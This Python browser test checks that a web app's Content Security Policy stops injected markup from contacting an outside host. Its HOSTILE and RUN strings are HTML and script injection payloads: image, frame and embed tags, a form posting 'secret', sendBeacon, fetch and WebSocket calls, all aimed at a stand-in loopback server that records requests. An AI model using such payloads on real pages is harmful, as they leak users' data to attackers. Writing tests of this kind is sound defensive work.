"""The second wall: were a model's words ever taken for HTML, nothing foreign would be asked."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Browser

from tests.browser.conftest import WAIT_MS
from tests.serving import Site

pytestmark = pytest.mark.browser

HOSTILE = """
<img src="{there}/img?said=secret"><video src="{there}/video"></video>
<link rel="stylesheet" href="{there}/style.css"><style>@import "{there}/import.css";
b {{ background: url({there}/background) }}</style><b>bold</b>
<iframe src="{there}/frame"></iframe><object data="{there}/object"></object>
<embed src="{there}/embed"><svg><image href="{there}/svg"/></svg>
<form id="slm-hostile" action="{there}/form" method="post"><input name="said" value="secret"></form>
<img src="/gradio_api/nothing" onerror="fetch('{there}/fetch').catch(() => 0)">
"""
RUN = """there => {
  const script = document.createElement("script");
  script.src = there + "/script.js";
  document.body.append(script);
  document.getElementById("slm-hostile").submit();
  navigator.sendBeacon(there + "/beacon", "secret");
  fetch(there + "/fetch").catch(() => 0);
  try { new EventSource(there + "/events"); } catch {}
  try { new WebSocket(there.replace("http", "ws") + "/socket"); } catch {}
}"""


class _Foreign(ThreadingHTTPServer):
    """A host on loopback that notes every request."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.asked: list[str] = []


class _Handler(BaseHTTPRequestHandler):
    server: _Foreign

    def do_GET(self) -> None:
        self.server.asked.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_POST = do_GET  # noqa: N815

    def log_message(self, format: str, *args: object) -> None:
        del format, args


@pytest.fixture
def foreign() -> Iterator[_Foreign]:
    server = _Foreign()
    threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


def test_markup_that_gets_through_asks_no_foreign_host(
    browser: Browser, served: Site, foreign: _Foreign
) -> None:
    there = f"http://127.0.0.1:{foreign.server_port}"
    context = browser.new_context()
    context.set_default_timeout(WAIT_MS)
    try:
        page = context.new_page()
        page.goto(served.address)
        page.locator(".slm-examples").wait_for()
        page.evaluate(
            """() => { window.blocked = [];
            document.addEventListener("securitypolicyviolation",
                event => window.blocked.push(event.effectiveDirective)); }"""
        )
        page.evaluate(
            "html => document.body.insertAdjacentHTML('beforeend', html)",
            HOSTILE.format(there=there),
        )
        page.evaluate(RUN, there)
        wanted = {
            "img-src", "media-src", "style-src-elem", "frame-src", "object-src", "form-action",
            "script-src-elem", "connect-src",
        }  # fmt: skip
        page.wait_for_function(
            "wanted => wanted.every(each => window.blocked.includes(each))", arg=sorted(wanted)
        )
        assert page.url == served.address
        # The page still works, and so do its plots.
        # (The driver goes on waiting for the blocked form, so the click is the page's own.)
        page.evaluate(
            """() => [...document.querySelectorAll("[role=tab]")]
                .find(tab => tab.textContent.trim() === "Meters").click()"""
        )
        page.wait_for_function("document.querySelector('.slm-spark polyline') !== null")
        assert foreign.asked == []
        # The witness does hear what comes.
        assert context.request.get(f"{there}/witness").status == 204
        assert foreign.asked == ["/witness"]
    finally:
        context.close()
